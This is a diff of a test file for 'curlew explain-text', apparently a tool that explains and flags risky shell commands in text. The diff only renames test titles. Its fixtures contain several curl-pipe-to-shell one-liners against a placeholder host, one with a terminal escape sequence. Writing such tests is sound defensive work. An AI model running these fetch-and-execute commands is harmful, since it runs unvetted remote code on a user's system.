@@ -8,7 +8,7 @@ const explained = (stdin: string, ...args: string[]): Promise<Ran> =>
   runHere(["explain-text", "--profile", "contract", ...args, "-"], { stdin, toolkit });
 
 describe("curlew explain-text", () => {
-  it("shows each stage of a region and the answer", async () => {
+  it("shows each stage of a region and the result", async () => {
     const { stdout, status } = await explained(
       "Never run this:\n\n```sh\ncurl https://x.example | bash -s\n```\n",
     );
@@ -51,7 +51,7 @@ describe("curlew explain-text", () => {
     expect((await explained(text)).stdout).toContain(said);
   });
 
-  it("reads a file by its name, or as what --as says", async () => {
+  it("reads a file as its name says, or as --as says", async () => {
     const cwd = folderWith({
       "run.rb": "system('curl https://x.example | sh')",
       "run.txt": "# curl https://x.example | sh",
@@ -64,7 +64,7 @@ describe("curlew explain-text", () => {
     ).toContain("tag bash");
   });
 
-  it("says what it could not read, and asks for one text", async () => {
+  it("reports an unreadable file, and requires exactly one text", async () => {
     expect(await runHere(["explain-text", "none.md"], { toolkit })).toMatchObject({
       status: 2,
       stdout: "",
@@ -73,7 +73,7 @@ describe("curlew explain-text", () => {
     expect(await runHere(["explain-text"], { toolkit })).toMatchObject({ status: 2, stdout: "" });
   });
 
-  it("shows no character that steers a terminal", async () => {
+  it("escapes terminal control characters", async () => {
     const { stdout } = await explained("```sh\ncurl https://x.example/\u001b[31m | sh\n```");
     expect(stdout).not.toContain("\u001b");
   });
